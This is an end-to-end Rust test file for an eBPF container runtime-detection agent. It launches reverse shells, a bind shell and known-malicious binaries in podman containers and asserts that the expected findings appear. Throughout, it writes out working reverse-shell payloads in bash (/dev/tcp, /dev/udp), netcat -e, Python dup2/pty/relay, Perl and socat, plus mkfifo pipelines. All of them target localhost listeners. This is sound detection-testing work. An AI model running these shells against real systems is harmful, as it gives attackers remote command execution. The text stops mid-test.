//! End to end: the real `ward agent` (real eBPF) against real podman containers.
//!
//! Most scenarios share one agent (started on first use, with `--output jsonl:<tmp>`, the
//! testkit's intel feed, and `podman system service` as the Docker API for metadata); each
//! scenario runs its own container and looks only at findings for that container id. A few
//! tests start their own agent: the recording/replay round trip (which stops it with
//! SIGTERM), metadata unavailable, and the load failure without privileges.
//!
//! Negative controls are made deterministic with a sentinel: after the benign actions, the
//! same container runs a compiler; once that finding is out, everything before it has been
//! processed (the agent emits events in order), so any other finding would be there too.
//!
//! Needs root and podman (`ward_testkit::require_containers!` skips otherwise, and fails
//! rather than skips when root but setup is broken).

use base64::Engine as _;
use serde_json::Value;
use std::io::{Read, Write};
use std::path::Path;
use std::process::{Command, Stdio};
use std::sync::OnceLock;
use std::time::{Duration, Instant};
use ward_testkit::agent::{AgentOptions, WardAgent};
use ward_testkit::{
    require_containers, Container, Images, Network, PodmanService, ShellListener, UdpShellListener,
};

const WAIT: Duration = Duration::from_secs(10);

const RCE: &str = "Execution: Possible Remote Command Execution Detected";
const REVSHELL: &str = "Reverse Shell";
const COMPILER: &str = "Defense Evasion: Launch Code Compiler Tool In Container";
const BUILT_IN: &str = "Execution: Built in Malicious Binary Executed";
const ADDED: &str = "Execution: Added Malicious Binary Executed";
const MODIFIED: &str = "Execution: Modified Malicious Binary Executed";
const MALICIOUS_PYTHON: &str = "Execution: Malicious Python executed";

/// `podman system service` on a fresh socket, alive until the test process exits.
fn podman_api() -> &'static Path {
    static SERVICE: OnceLock<PodmanService> = OnceLock::new();
    SERVICE
        .get_or_init(|| PodmanService::start().unwrap_or_else(|e| panic!("{e}")))
        .socket_path()
}

/// The agent under test: ward-testkit's process plus this file's waiting helpers.
struct Agent(WardAgent);

impl Agent {
    fn start(images: &Images, agent_toml: &str, record: bool) -> Agent {
        Self::start_with_feed(images, &images.intel_feed, agent_toml, record)
    }

    fn start_with_feed(images: &Images, feed: &Path, agent_toml: &str, record: bool) -> Agent {
        let _ = images;
        let opts = AgentOptions {
            feeds: vec![feed.to_path_buf()],
            toml: agent_toml.to_string(),
            agent_keys: true,
            health_log_interval: "5s".into(),
            serve: true,
            record,
            ..AgentOptions::default()
        };
        Agent(
            WardAgent::start(Path::new(env!("CARGO_BIN_EXE_ward")), &opts)
                .unwrap_or_else(|e| panic!("{e}")),
        )
    }

    fn log(&self) -> String {
        self.0.log()
    }

    fn findings(&self) -> Vec<Value> {
        self.0.findings()
    }

    fn for_container(&self, id: &str) -> Vec<Value> {
        self.findings()
            .into_iter()
            .filter(|f| f["sourceProperties"]["Container_Id"] == id)
            .collect()
    }

    /// The first finding for container `id` with `category` that satisfies `pred`.
    fn wait_for(&self, id: &str, category: &str, pred: impl Fn(&Value) -> bool) -> Value {
        self.wait_for_any(id, &[category], pred)
    }

    /// The first finding for container `id` in one of `categories` that satisfies `pred`.
    fn wait_for_any(&self, id: &str, categories: &[&str], pred: impl Fn(&Value) -> bool) -> Value {
        let category = categories.join(" or ");
        let deadline = Instant::now() + WAIT;
        loop {
            let all = self.for_container(id);
            if let Some(f) = all
                .iter()
                .find(|f| categories.iter().any(|c| f["category"] == *c) && pred(f))
            {
                return f.clone();
            }
            if Instant::now() >= deadline {
                panic!(
                    "no {category:?} finding for container {id} within {WAIT:?}; its findings:\n{}\nagent log:\n{}",
                    serde_json::to_string_pretty(&all).unwrap(),
                    self.log()
                );
            }
            std::thread::sleep(Duration::from_millis(50));
        }
    }

    fn scrape(&self) -> String {
        self.0.scrape().unwrap_or_else(|e| panic!("{e}"))
    }

    fn stop(self) -> (std::process::ExitStatus, tempfile::TempDir) {
        self.0.stop().unwrap_or_else(|e| panic!("{e}"))
    }
}

fn shared_agent(images: &Images) -> &'static Agent {
    static AGENT: OnceLock<Agent> = OnceLock::new();
    AGENT.get_or_init(|| {
        let sock = podman_api();
        // A fleet identity on every finding (checked by
        // `the_agent_serves_its_findings_over_the_api`).
        Agent::start(
            images,
            &format!(
                "docker_sockets = [\"{}\"]\ncluster = \"e2e-cluster\"\nproject = \"e2e-project\"",
                sock.display()
            ),
            false,
        )
    })
}

fn debian(images: &Images, prefix: &str) -> Container {
    Container::builder(&images.debian)
        .name_prefix(prefix)
        .network(Network::Host)
        .run(&["sleep", "600"])
        .unwrap()
}

fn args(f: &Value) -> Vec<String> {
    f["processes"][0]["args"]
        .as_array()
        .map(|a| {
            a.iter()
                .map(|s| s.as_str().unwrap_or("").to_string())
                .collect()
        })
        .unwrap_or_default()
}

fn binary(f: &Value) -> &str {
    f["processes"][0]["binary"]["path"].as_str().unwrap_or("")
}

/// Container name and image of the finding are the container's.
fn assert_container(f: &Value, c: &Container) {
    let cont = &f["containers"][0];
    assert_eq!(cont["name"], c.name(), "container name: {f:#}");
    assert_eq!(cont["uri"], c.image(), "container image: {f:#}");
    assert_eq!(f["sourceProperties"]["Container_Name"], c.name());
    assert!(
        cont["imageId"]
            .as_str()
            .unwrap_or("")
            .starts_with("sha256:"),
        "image id: {f:#}"
    );
}

fn assert_peer(f: &Value, port: u16) {
    let conns = f["connections"].as_array().cloned().unwrap_or_default();
    assert!(
        conns
            .iter()
            .any(|c| c["destinationIp"] == "127.0.0.1" && c["destinationPort"] == port),
        "peer 127.0.0.1:{port} in connections: {f:#}"
    );
}

/// What the listener got back: the session output, or the partial output of a session that
/// the shell did not close (pipelines whose `nc` keeps the connection).
fn session_output(p: ward_testkit::PendingSession) -> String {
    match p.wait() {
        Ok(s) => s.output_str(),
        Err(ward_testkit::TestkitError::Timeout { partial, .. }) => partial,
        Err(e) => panic!("listener: {e}"),
    }
}

/// Runs a reverse shell (`cmd` gets the port) in a fresh container and returns the agent,
/// container and port once the shell answered `id`.
fn reverse_shell(
    images: &Images,
    image: &str,
    prefix: &str,
    cmd: impl Fn(u16) -> Vec<String>,
) -> (&'static Agent, Container, u16) {
    let agent = shared_agent(images);
    let c = Container::builder(image)
        .name_prefix(prefix)
        .network(Network::Host)
        .run(&["sleep", "600"])
        .unwrap();
    let pending = ShellListener::bind()
        .unwrap()
        .serve("id\nexit\n", Duration::from_secs(6));
    let port = pending.port();
    let argv = cmd(port);
    let argv: Vec<&str> = argv.iter().map(|s| s.as_str()).collect();
    c.exec_detached(&argv).unwrap();
    let out = session_output(pending);
    assert!(
        out.contains("uid=0(root)"),
        "the reverse shell ran `id`: {out:?}"
    );
    (agent, c, port)
}

fn sh(cmd: String) -> Vec<String> {
    vec!["sh".into(), "-c".into(), cmd]
}

#[test]
fn bash_dev_tcp_reverse_shell() {
    let images = require_containers!();
    let (agent, c, port) = reverse_shell(&images, &images.debian, "rs-bash", |p| {
        vec![
            "bash".into(),
            "-c".into(),
            format!("bash -i >& /dev/tcp/127.0.0.1/{p} 0>&1"),
        ]
    });
    for cat in [REVSHELL, RCE] {
        let f = agent.wait_for(c.id(), cat, |f| binary(f) == "/usr/bin/bash");
        assert_eq!(args(&f), ["bash", "-i"]);
        assert_container(&f, &c);
        assert_peer(&f, port);
    }
}

#[test]
fn netcat_traditional_e_reverse_shell() {
    let images = require_containers!();
    let (agent, c, port) = reverse_shell(&images, &images.debian, "rs-nc", |p| {
        vec![
            "nc.traditional".into(),
            "127.0.0.1".into(),
            p.to_string(),
            "-e".into(),
            "/bin/sh".into(),
        ]
    });
    // nc execs /bin/sh (dash) with the socket on fds 0-2. The `id` the shell runs repeats
    // the same (category, container, peer): it folds into these findings (Commands).
    for cat in [REVSHELL, RCE] {
        let f = agent.wait_for(c.id(), cat, |f| binary(f) == "/usr/bin/dash");
        assert_eq!(args(&f), ["sh"]);
        assert_container(&f, &c);
        assert_peer(&f, port);
    }
}

#[test]
fn busybox_nc_e_reverse_shell() {
    let images = require_containers!();
    let (agent, c, port) = reverse_shell(&images, &images.busybox, "rs-bbnc", |p| {
        vec![
            "nc".into(),
            "127.0.0.1".into(),
            p.to_string(),
            "-e".into(),
            "/bin/sh".into(),
        ]
    });
    let f = agent.wait_for(c.id(), REVSHELL, |f| binary(f).ends_with("busybox"));
    assert_eq!(args(&f)[0], "/bin/sh");
    assert_container(&f, &c);
    assert_peer(&f, port);
}

#[test]
fn python_dup2_subprocess_reverse_shell() {
    let images = require_containers!();
    let (agent, c, port) = reverse_shell(&images, &images.debian, "rs-py", |p| {
        vec![
            "python3".into(),
            "-c".into(),
            format!(
                "import socket,os,subprocess;s=socket.socket();s.connect(('127.0.0.1',{p}));\
             [os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(['/bin/sh','-i'])"
            ),
        ]
    });
    let f = agent.wait_for(c.id(), REVSHELL, |f| binary(f) == "/usr/bin/dash");
    assert_eq!(args(&f), ["/bin/sh", "-i"]);
    assert_container(&f, &c);
    assert_peer(&f, port);

    // The python process itself: the model scores the `-c` code as malicious.
    let m = agent.wait_for(c.id(), MALICIOUS_PYTHON, |_| true);
    assert_container(&m, &c);
    let p = &m["processes"][0];
    assert_eq!(p["name"], "python3");
    assert_eq!(p["args"][1], "-c");
    let code = p["args"][2].as_str().unwrap();
    let script = &p["script"];
    assert!(
        script.get("path").is_none(),
        "a -c literal has no path: {script}"
    );
    assert_eq!(script["contents"], code);
    assert_eq!(script["size"], code.len());
    assert_eq!(script["sha256"], sha256_hex(code.as_bytes()));
    assert!(m["sourceProperties"]["Model_Score"].as_f64().unwrap() >= 0.5);
    assert!(!m["sourceProperties"]["Model_Top_Reasons"]
        .as_array()
        .unwrap()
        .is_empty());
}

/// A Python reverse-shell *script file* in the container: the finding carries its path,
/// contents and the SHA-256 of the file.
#[test]
fn malicious_python_script_file_is_reported_with_its_contents() {
    let images = require_containers!();
    let (agent, c, _port) = reverse_shell(&images, &images.debian, "py-file", |p| {
        python_file_in_job_dir("sync.py", py_reverse_shell(p))
    });
    let m = agent.wait_for(c.id(), MALICIOUS_PYTHON, |_| true);
    let script = &m["processes"][0]["script"];
    assert_eq!(
        script["path"], "sync.py",
        "the path as the process names it"
    );
    let written = c.exec_ok(&["cat", "/opt/job/sync.py"]).unwrap();
    assert_eq!(script["contents"], written.as_str());
    assert_eq!(script["sha256"], sha256_hex(written.as_bytes()));
    assert_eq!(
        m["processes"][0]["args"],
        serde_json::json!(["python3", "sync.py"])
    );
}

/// A Python reverse shell to 127.0.0.1:`port` (socket + dup2 + `/bin/sh -i`).
fn py_reverse_shell(port: u16) -> String {
    format!(
        "import socket, subprocess, os\n\
         s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n\
         s.connect(('127.0.0.1', {port}))\n\
         os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nos.dup2(s.fileno(), 2)\n\
         subprocess.call(['/bin/sh', '-i'])\n"
    )
}

/// argv that writes `body` to /opt/job/`name` and runs it as `python3 name` from /opt/job.
fn python_file_in_job_dir(name: &str, body: String) -> Vec<String> {
    sh(format!(
        "mkdir -p /opt/job && printf '%s' \"$0\" > /opt/job/{name} && cd /opt/job && exec python3 {name}"
    ))
    .into_iter()
    .chain([body])
    .collect()
}

fn sha256_hex(b: &[u8]) -> String {
    use sha2::Digest;
    hex::encode(sha2::Sha256::digest(b))
}

#[test]
fn python_pty_spawn_reverse_shell() {
    let images = require_containers!();
    let (agent, c, port) = reverse_shell(&images, &images.debian, "rs-pty", |p| {
        vec![
            "python3".into(),
            "-c".into(),
            format!(
                "import socket,os,pty;s=socket.socket();s.connect(('127.0.0.1',{p}));\
             [os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')"
            ),
        ]
    });
    // The shell's stdio is a pty; its parent (python) holds the socket.
    let f = agent.wait_for_any(c.id(), &[REVSHELL, RCE], |f| binary(f) == "/usr/bin/dash");
    assert_eq!(args(&f), ["/bin/sh"]);
    assert_container(&f, &c);
    assert_peer(&f, port);
}

#[test]
fn perl_open_stdin_reverse_shell() {
    let images = require_containers!();
    let (agent, c, port) = reverse_shell(&images, &images.debian, "rs-perl", |p| {
        vec![
            "perl".into(),
            "-e".into(),
            format!(
                "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));\
             if(connect(S,sockaddr_in({p},inet_aton('127.0.0.1')))){{open(STDIN,'>&S');\
             open(STDOUT,'>&S');open(STDERR,'>&S');exec('/bin/sh -i');}}"
            ),
        ]
    });
    let f = agent.wait_for(c.id(), REVSHELL, |f| binary(f) == "/usr/bin/dash");
    assert_eq!(args(&f), ["/bin/sh", "-i"]);
    assert_container(&f, &c);
    assert_peer(&f, port);
}

#[test]
fn socat_exec_pty_reverse_shell() {
    let images = require_containers!();
    let (agent, c, port) = reverse_shell(&images, &images.debian, "rs-socat", |p| {
        vec![
            "socat".into(),
            "exec:bash -li,pty,stderr".into(),
            format!("tcp:127.0.0.1:{p}"),
        ]
    });
    // bash runs on a pty that socat relays to its connection. Which of the two categories
    // names bash first depends on whether socat's connect or bash's exec is seen first (the
    // other then folds in by the same peer).
    let f = agent.wait_for_any(c.id(), &[REVSHELL, RCE], |f| binary(f) == "/usr/bin/bash");
    assert_eq!(args(&f), ["bash", "-li"]);
    assert_container(&f, &c);
    assert_peer(&f, port);
}

#[test]
fn mkfifo_nc_pipeline_reverse_shell() {
    let images = require_containers!();
    // nc's output feeds the shell through a pipe; the shell's output goes back through the FIFO.
    let (agent, c, port) = reverse_shell(&images, &images.debian, "rs-fifo", |p| {
        sh(format!(
            "rm -f /tmp/f; mkfifo /tmp/f; nc.traditional -q 1 127.0.0.1 {p} < /tmp/f | /bin/sh -i > /tmp/f 2>&1"
        ))
    });
    let f = agent.wait_for_any(c.id(), &[REVSHELL, RCE], |f| {
        binary(f) == "/usr/bin/dash" && args(f) == ["/bin/sh", "-i"]
    });
    assert_container(&f, &c);
    assert_peer(&f, port);
}

/// The canonical `cat /tmp/f | sh -i 2>&1 | nc H P > /tmp/f`: `cat` opens the FIFO as an
/// argument (fd 3), so no stdio link from nc's FIFO to the shell is visible to the sensor. The
/// shell is bound through the pipe loop instead: its stdout pipe is nc's stdin, nc is connected
/// and writes into the FIFO, and the shell reads a pipe.
#[test]
fn mkfifo_cat_pipeline_reverse_shell() {
    let images = require_containers!();
    let (agent, c, port) = reverse_shell(&images, &images.debian, "rs-fifocat", |p| {
        sh(format!(
            "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc.traditional -q 1 127.0.0.1 {p} > /tmp/f"
        ))
    });
    let f = agent.wait_for_any(c.id(), &[REVSHELL, RCE], |f| {
        binary(f) == "/usr/bin/dash" && args(f) == ["/bin/sh", "-i"]
    });
    assert_container(&f, &c);
    assert_peer(&f, port);
}

/// A python interpreter relay: `setup` connects `s` to the listener and starts `/bin/sh` as
/// `sh`, defining `put(data)` (to the shell) and `get()` (from it); a thread copies the socket
/// into the shell, the main loop copies the shell's output back.
fn python_relay(setup: &str) -> Vec<String> {
    let code = format!(
        "import socket,subprocess,threading\n{setup}\n\
         def up():\n\
         \x20while True:\n\
         \x20\x20d=s.recv(1024)\n\
         \x20\x20if not d: break\n\
         \x20\x20put(d)\n\
         threading.Thread(target=up,daemon=True).start()\n\
         while True:\n\
         \x20d=get()\n\
         \x20if not d: break\n\
         \x20s.sendall(d)\n\
         s.close()\n"
    );
    vec!["python3".into(), "-c".into(), code]
}

/// The relay's shell: found by its stdin, written by the connected python process.
fn assert_relayed_shell(agent: &Agent, c: &Container, port: u16, holder: &str) {
    let f = agent.wait_for(c.id(), REVSHELL, |f| binary(f) == "/usr/bin/dash");
    assert_eq!(args(&f), ["/bin/sh"]);
    assert_eq!(
        f["sourceProperties"]["Binding"],
        "stdin pipe written by a process holding a remote connection"
    );
    assert_eq!(f["sourceProperties"]["Socket_Holder_Program"], holder);
    assert_container(&f, c);
    assert_peer(&f, port);
}

/// An interpreter relay: python connects, starts `/bin/sh` on pipes (`Popen(stdin=PIPE,
/// stdout=PIPE)`) and copies bytes both ways with a thread. No socket is ever on the shell's
/// fds 0-2: the evidence is the shell's stdin pipe, written by the connected python process.
#[test]
fn python_popen_pipe_relay_reverse_shell() {
    let images = require_containers!();
    let (agent, c, port) = reverse_shell(&images, &images.debian, "rs-pyrelay", |p| {
        python_relay(&format!(
            "s=socket.create_connection(('127.0.0.1',{p}))\n\
             sh=subprocess.Popen(['/bin/sh'],stdin=subprocess.PIPE,stdout=subprocess.PIPE,stderr=subprocess.STDOUT)\n\
             def put(d): sh.stdin.write(d);sh.stdin.flush()\n\
             get=lambda: sh.stdout.read1(1024)"
        ))
    });
    assert_relayed_shell(agent, &c, port, "python3");
}

/// node's `child_process.spawn` gives the shell one end of an AF_UNIX socketpair (libuv), not a
/// pipe, and node payloads spawn the shell before they connect. node is not in the test image:
/// python does the same, which is what the agent sees of a node relay.
#[test]
fn socketpair_relay_reverse_shell_like_node_spawn() {
    let images = require_containers!();
    let (agent, c, port) = reverse_shell(&images, &images.debian, "rs-sprelay", |p| {
        python_relay(&format!(
            "a,b=socket.socketpair()\n\
             sh=subprocess.Popen(['/bin/sh'],stdin=b,stdout=b,stderr=b)\n\
             b.close()\n\
             s=socket.create_connection(('127.0.0.1',{p}))\n\
             put=a.sendall\n\
             get=lambda: a.recv(1024)"
        ))
    });
    assert_relayed_shell(agent, &c, port, "python3");
}

/// The same relay in perl: IPC::Open2 starts the shell on pipes, a select() loop pumps.
#[test]
fn perl_open2_pipe_relay_reverse_shell() {
    let images = require_containers!();
    let (agent, c, port) = reverse_shell(&images, &images.debian, "rs-plrelay", |p| {
        vec![
            "perl".into(),
            "-e".into(),
            format!(
                "use IO::Socket::INET;use IPC::Open2;use IO::Select;\
                 my $s=IO::Socket::INET->new(PeerAddr=>'127.0.0.1:{p}') or die;\
                 my $pid=open2(my $out,my $in,'/bin/sh');\
                 my $sel=IO::Select->new($s,$out);my $buf;\
                 LOOP: while(my @r=$sel->can_read){{for my $h(@r){{\
                 my $n=sysread($h,$buf,4096);last LOOP unless $n;\
                 if($h==$s){{syswrite($in,$buf)}}else{{syswrite($s,$buf)}}}}}}\
                 close $s;"
            ),
        ]
    });
    assert_relayed_shell(agent, &c, port, "perl");
}

/// `sh -i >& /dev/udp/H/P 0>&1`: a connected UDP socket on the shell's stdin.
#[test]
fn udp_dev_udp_reverse_shell() {
    let images = require_containers!();
    let agent = shared_agent(&images);
    let c = debian(&images, "rs-udp");
    let pending = UdpShellListener::bind().unwrap().serve(
        "id\nexit\n",
        "uid=0(root)",
        Duration::from_secs(8),
    );
    let port = pending.port();
    c.exec_detached(&[
        "bash",
        "-c",
        &format!("sh -i >& /dev/udp/127.0.0.1/{port} 0>&1"),
    ])
    .unwrap();
    let out = session_output(pending);
    assert!(
        out.contains("uid=0(root)"),
        "the UDP shell ran `id`: {out:?}"
    );
    let f = agent.wait_for(c.id(), REVSHELL, |f| binary(f) == "/usr/bin/dash");
    assert_eq!(args(&f), ["sh", "-i"]);
    assert_container(&f, &c);
    let conn = &f["connections"][0];
    assert_eq!(conn["protocol"], "UDP", "{f:#}");
    assert_eq!(conn["destinationIp"], "127.0.0.1");
    assert_eq!(conn["destinationPort"], port);
}

/// A bind shell: `nc -l -p P -e /bin/sh` in the container, the attacker connects in.
#[test]
fn netcat_bind_shell() {
    let images = require_containers!();
    let agent = shared_agent(&images);
    let c = debian(&images, "rs-bind");
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    c.exec_detached(&[
        "nc.traditional",
        "-l",
        "-s",
        "127.0.0.1",
        "-p",
        &port.to_string(),
        "-e",
        "/bin/sh",
    ])
    .unwrap();
    let deadline = Instant::now() + WAIT;
    let mut stream = loop {
        match std::net::TcpStream::connect(("127.0.0.1", port)) {
            Ok(s) => break s,
            Err(e) if Instant::now() < deadline => {
                let _ = e;
                std::thread::sleep(Duration::from_millis(50));
            }
            Err(e) => panic!("bind shell on 127.0.0.1:{port}: {e}"),
        }
    };
    let local = stream.local_addr().unwrap().port();
    stream.write_all(b"id\nexit\n").unwrap();
    stream.set_read_timeout(Some(WAIT)).unwrap();
    let mut out = String::new();
    let _ = stream.read_to_string(&mut out);
    assert!(
        out.contains("uid=0(root)"),
        "the bind shell ran `id`: {out:?}"
    );
    // The peer of the accepted socket is the attacker's end: our local port.
    for cat in [REVSHELL, RCE] {
        let f = agent.wait_for(c.id(), cat, |f| binary(f) == "/usr/bin/dash");
        assert_container(&f, &c);
        assert_peer(&f, local);
    }
}

/// perl's `fdopen` form: STDIN/STDOUT re-opened on the socket (a dup onto fd 0), then
/// `system` for each line the peer sends. perl execs a plain command itself (remote command
/// execution) and runs one with shell syntax through `sh -c` (a shell reading the socket).
#[test]
fn perl_fdopen_reverse_shell() {
    let images = require_containers!();
    let agent = shared_agent(&images);
    let c = debian(&images, "rs-plfd");
    let pending = ShellListener::bind().unwrap().serve(
        "id\necho $((6*7)) | cat\nkill $PPID\n",
        Duration::from_secs(8),
    );
    let port = pending.port();
    c.exec_detached(&[
        "perl",
        "-MIO",
        "-e",
        &format!(
            "$c=new IO::Socket::INET(PeerAddr,'127.0.0.1:{port}');\
             STDIN->fdopen($c,r);$~->fdopen($c,w);system $_ while <>;"
        ),
    ])
    .unwrap();
    let out = session_output(pending);
    assert!(out.contains("uid=0(root)") && out.contains("42"), "{out:?}");
    let f = agent.wait_for(c.id(), RCE, |f| binary(f) == "/usr/bin/id");
    assert_eq!(f["sourceProperties"]["Socket_Holder_Program"], "perl");
    assert_container(&f, &c);
    assert_peer(&f, port);
    let f = agent.wait_for(c.id(), REVSHELL, |f| binary(f) == "/usr/bin/dash");
    assert_eq!(args(&f)[..2], ["sh", "-c"]);
    assert_eq!(f["sourceProperties"]["Socket_Holder_Program"], "perl");
    assert_peer(&f, port);
}

/// A tiny HTTP server on 127.0.0.1 answering `n` requests with `body`.
fn http_server(n: usize, body: &'static str) -> (u16, std::thread::JoinHandle<()>) {
    let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    let h = std::thread::spawn(move || {
        for _ in 0..n {
            let (mut s, _) = l.accept().unwrap();
            s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
            let mut req = Vec::new();
            let mut b = [0u8; 1024];
            while !req.windows(4).any(|w| w == b"\r\n\r\n") {
                match s.read(&mut b) {
                    Ok(0) | Err(_) => break,
                    Ok(k) => req.extend_from_slice(&b[..k]),
                }
            }
            let _ = write!(
                s,
                "HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n{body}",
                body.len()
            );
        }
    });
    (port, h)
}

/// Health checks and downloads over bash's `/dev/tcp` (images without curl): the builtin's
/// redirection puts the socket on fd 1 for a moment, `cat` reads it into /dev/null or a file.
/// Neither is a reverse shell nor remote command execution.
#[test]
fn benign_dev_tcp_health_check_and_download() {
    let images = require_containers!();
    let agent = shared_agent(&images);
    let c = debian(&images, "benign-devtcp");
    let (port, server) = http_server(3, "healthy-payload");
    // The health check: cat is the last command (exec'd in place after its redirections).
    c.exec_ok(&[
        "bash",
        "-c",
        &format!(
            "exec 3<>/dev/tcp/127.0.0.1/{port}; printf 'GET /health HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3 >/dev/null"
        ),
    ])
    .unwrap();
    // The download: echo and read builtins on the socket, cat forked into a file.
    let out = c
        .exec_ok(&[
            "bash",
            "-c",
            &format!(
                "exec 3<>/dev/tcp/127.0.0.1/{port}; echo -en 'GET /app.tar.gz HTTP/1.0\\r\\n\\r\\n' >&3; \
                 read -r status <&3; cat <&3 > /tmp/download; echo \"$status\"; grep -c healthy-payload /tmp/download"
            ),
        ])
        .unwrap();
    assert!(
        out.contains("HTTP/1.0 200 OK") && out.trim_end().ends_with('1'),
        "{out:?}"
    );
    // The same download with sh -c around it (a Dockerfile RUN line / a HEALTHCHECK CMD).
    c.exec_ok(&[
        "sh",
        "-c",
        &format!(
            "bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}; printf \"GET / HTTP/1.0\\r\\n\\r\\n\" >&3; cat <&3' > /tmp/index"
        ),
    ])
    .unwrap();
    server.join().unwrap();
    let others = after_sentinel(agent, &c);
    assert!(
        others.is_empty(),
        "/dev/tcp transfers reported: {others:#?}"
    );
}

/// `ward agent --serve`: the API inside the agent serves what the agent just found.
#[test]
fn the_agent_serves_its_findings_over_the_api() {
    let images = require_containers!();
    let agent = shared_agent(&images);
    let c = debian(&images, "ward-e2e-api");
    c.exec_ok(&[
        "sh",
        "-c",
        "echo 'int main(){return 0;}' > /tmp/a.c && tcc -o /tmp/a /tmp/a.c",
    ])
    .unwrap();
    let f = agent.wait_for(c.id(), COMPILER, |_| true);
    // `[agent] cluster` / `project` are on the finding the agent wrote out.
    assert_eq!(f["cluster"], "e2e-cluster", "{f:#}");
    assert_eq!(f["projectDisplayName"], "e2e-project", "{f:#}");
    let log = agent.log();
    let url = log
        .lines()
        .find_map(|l| l.strip_prefix("ward agent: console: "))
        .unwrap_or_else(|| panic!("no console URL in the agent log:\n{log}"));
    let host = url.trim_start_matches("http://").split('/').next().unwrap();
    let query = format!(
        "containerId=\"{}\" resource.cluster=e2e-cluster project=e2e-project",
        c.id()
    );
    let path = format!(
        "/v1/findings?filter={}",
        query
            .bytes()
            .map(|b| format!("%{b:02X}"))
            .collect::<String>()
    );
    // The store write is batched after the JSON line: poll the API briefly.
    let want = f["name"].as_str().unwrap();
    let deadline = Instant::now() + WAIT;
    loop {
        let mut s = std::net::TcpStream::connect(host).unwrap();
        write!(s, "GET {path} HTTP/1.0\r\nHost: {host}\r\n\r\n").unwrap();
        let mut r = String::new();
        s.read_to_string(&mut r).unwrap();
        assert!(
            r.starts_with("HTTP/1.0 200") || r.starts_with("HTTP/1.1 200"),
            "{r}"
        );
        let body: Value = serde_json::from_str(r.split("\r\n\r\n").nth(1).unwrap()).unwrap();
        let names: Vec<&str> = body["listFindingsResults"]
            .as_array()
            .unwrap()
            .iter()
            .map(|r| r["finding"]["name"].as_str().unwrap())
            .collect();
        if names.contains(&want) {
            let r = &body["listFindingsResults"][0]["resource"];
            assert_eq!(r["cluster"], "e2e-cluster", "{body:#}");
            assert_eq!(r["project_display_name"], "e2e-project", "{body:#}");
            assert_eq!(r["type"], "container", "{body:#}");
            assert_eq!(
                r["node"], f["sourceProperties"]["VM_Instance_Name"],
                "{body:#}"
            );
            break;
        }
        assert!(
            Instant::now() < deadline,
            "{want} not served within {WAIT:?}: {body}"
        );
        std::thread::sleep(Duration::from_millis(100));
    }
}

#[test]
fn compiler_in_container() {
    let images = require_containers!();
    let agent = shared_agent(&images);
    let c = debian(&images, "cc");
    c.exec_ok(&["sh", "-c", "echo 'int main(){return 0;}' > /tmp/h.c"])
        .unwrap();
    c.exec_ok(&["tcc", "-o", "/tmp/h", "/tmp/h.c"]).unwrap();
    let f = agent.wait_for(c.id(), COMPILER, |f| binary(f) == "/usr/bin/tcc");
    assert_eq!(args(&f), ["tcc", "-o", "/tmp/h", "/tmp/h.c"]);
    assert_container(&f, &c);
    assert_eq!(f["severity"], "LOW");
}

fn sha(f: &Value) -> &str {
    f["processes"][0]["binary"]["sha256"].as_str().unwrap_or("")
}

#[test]
fn built_in_malicious_binary() {
    let images = require_containers!();
    let agent = shared_agent(&images);
    let c = debian(&images, "builtin");
    c.exec_ok(&[&images.payload_path]).unwrap();
    let f = agent.wait_for(c.id(), BUILT_IN, |_| true);
    assert_eq!(binary(&f), images.payload_path);
    assert_eq!(sha(&f), images.payload_sha256);
    assert_eq!(args(&f), [images.payload_path.as_str()]);
    assert_container(&f, &c);
}

#[test]
fn added_malicious_binary() {
    let images = require_containers!();
    let agent = shared_agent(&images);
    let c = debian(&images, "added");
    c.copy_in(&images.added_payload_host_copy, "/tmp/dropped")
        .unwrap();
    c.exec_ok(&["chmod", "755", "/tmp/dropped"]).unwrap();
    c.exec_ok(&["/tmp/dropped", "--x"]).unwrap();
    let f = agent.wait_for(c.id(), ADDED, |_| true);
    assert_eq!(binary(&f), "/tmp/dropped");
    assert_eq!(sha(&f), images.added_payload_sha256);
    assert_eq!(args(&f), ["/tmp/dropped", "--x"]);
    assert_container(&f, &c);
}

#[test]
fn modified_malicious_binary() {
    let images = require_containers!();
    let agent = shared_agent(&images);
    let c = debian(&images, "modified");
    // An image binary overwritten with the payload: copied up to the upper layer.
    c.exec_ok(&["cp", &images.payload_path, "/usr/bin/whoami"])
        .unwrap();
    c.exec_ok(&["/usr/bin/whoami"]).unwrap();
    let f = agent.wait_for(c.id(), MODIFIED, |_| true);
    assert_eq!(binary(&f), "/usr/bin/whoami");
    assert_eq!(sha(&f), images.payload_sha256);
    assert_container(&f, &c);
}

/// A script matching intel gets the category of its own layer: read from the image
/// (Built in), copied in (Added), an image script overwritten (Modified). The layer comes from
/// the container's overlay mount (upperdir/lowerdir) as the agent sees it.
#[test]
fn malicious_script_category_follows_its_layer() {
    let images = require_containers!();
    let c = debian(&images, "script-layer");
    let script = "/usr/bin/which.debianutils";
    let sum = c.exec_ok(&["sha256sum", script]).unwrap();
    let script_sha = sum.split_whitespace().next().unwrap().to_string();
    let dir = tempfile::tempdir().unwrap();
    let feed = dir.path().join("feed.txt");
    std::fs::write(&feed, format!("{script_sha};which from the test image\n")).unwrap();
    let sock = podman_api();
    let agent = Agent::start_with_feed(
        &images,
        &feed,
        &format!("docker_sockets = [\"{}\"]", sock.display()),
        false,
    );
    let matched = |f: &Value, path: &str| {
        f["sourceProperties"]["Matched_File"] == "script"
            && f["sourceProperties"]["Matched_Sha256"] == script_sha.as_str()
            && args(f).iter().any(|a| a == path)
    };
    // Built in: the image's script, through its shebang.
    c.exec_ok(&[script, "ls"]).unwrap();
    let f = agent.wait_for(c.id(), BUILT_IN, |f| matched(f, script));
    assert_eq!(f["sourceProperties"]["File_Layer"], "image");
    assert_container(&f, &c);
    // Added: a copy in the upper layer, run by an interpreter.
